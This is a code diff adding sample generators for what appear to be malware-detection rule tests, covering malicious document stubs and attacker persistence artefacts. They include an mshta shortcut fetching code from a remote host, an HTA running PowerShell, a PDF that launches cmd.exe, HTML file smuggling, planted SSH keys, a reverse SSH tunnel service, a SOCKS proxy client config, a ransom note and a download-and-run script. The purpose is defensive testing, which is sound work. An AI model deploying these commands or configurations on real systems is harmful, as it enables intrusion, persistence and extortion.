@@ -129,12 +129,51 @@ SCRIPTS = {
 }
 
 
+DOCUMENTS = {
+    "document_rtf_equation_object": text(
+        "{\\rtf1{\\object\\objemb{\\*\\obj", "data 0105000002000000", "45717561", "74696f6e2e33", "00}}}"),
+    "document_rtf_packaged_program": text(
+        "{\\rtf1{\\object\\objemb{\\*\\obj", "data 0105000002000000", "5061636b", "616765", "00",
+        "612e6578", "6500}}}"),
+    "document_pdf_launches_shell": text(
+        "%PDF-1.4\n1 0 obj<</Open", "Action<</S/Lau", "nch/Win<</F(cm", "d.exe)>>>>>>endobj"),
+    "document_shortcut_fetches_code": struct.pack("<II", 0x4C, 0x21401) + bytes(68)
+                                      + ("msh" "ta ht" "tp://192.0.2.1/").encode("utf-16-le"),
+    "document_html_smuggles_file": text(
+        "<script>b = new Bl", "ob([at", "ob(x)]); a.href = URL.createObject", "URL(b); ",
+        "a.down", "load = \"order.is", "o\"; a.cl", "ick();</script>"),
+    "document_hta_runs_shell": text(
+        "<hta:appli", "cation><script>new ActiveXObject('WScript.Sh", "ell').Ru", "n('power", "shell x')</script>"),
+    "document_onenote_embeds_script": bytes.fromhex("e4525c7b8cd8a74d" "aeb15378d02996d3") + bytes(64)
+                                      + bytes.fromhex("e716e3bd65261145" "a4c48d4d0b7a9eac")
+                                      + text("@ec", "ho off"),
+    "document_sylk_command": text("ID;P\nO;E\nC;X1;Y1", ";EEX", "EC(\"x\")"),
+}
+
+FOOTHOLDS = {
+    "foothold_ssh_key_planted": text(
+        "ec", "ho ssh-rsa ", "A" * 40, " >> /root/.ssh/autho", "rized_keys\nchat", "tr +i /root/.ssh/autho", "rized_keys"),
+    "foothold_reverse_tunnel_service": text(
+        "[Service]\nRest", "art=always\nExecStart=/usr/bin/ss", "h -o StrictHostKey", "Checking=no -N",
+        "R 2222:localhost:2", "2 u@192.0.2.1"),
+    "foothold_proxy_client_configuration": text(
+        "[common]\nserver_", "addr = 192.0.2.1\nserver_", "port = 7000\n[s]\nplu", "gin = socks5\nremote_",
+        "port = 6000"),
+    "ransom_note_text": text(
+        "Your files have been enc", "rypted. Pay in bit", "coin at ", "a" * 56, ".oni", "on"),
+    "script_windows_downloader": text(
+        "var x = new ActiveXObject('MSXML2.XML", "HTTP'), s = new ActiveXObject('ADO", "DB.Stream');\n",
+        "s.SaveTo", "File(f); w.Ru", "n(f);"),
+}
+
+
 def main():
     if len(sys.argv) != 2:
         sys.exit(__doc__)
     folder = pathlib.Path(sys.argv[1])
     folder.mkdir(parents=True, exist_ok=True)
-    for group in (PACKERS, WEBSHELLS, MINERS, TEST_FILES, ELF_ODDITIES, SCRIPTS):
+    for group in (PACKERS, WEBSHELLS, MINERS, TEST_FILES, ELF_ODDITIES, SCRIPTS, DOCUMENTS,
+                  FOOTHOLDS):
         for rule, sample in group.items():
             (folder / rule).write_bytes(sample)
 
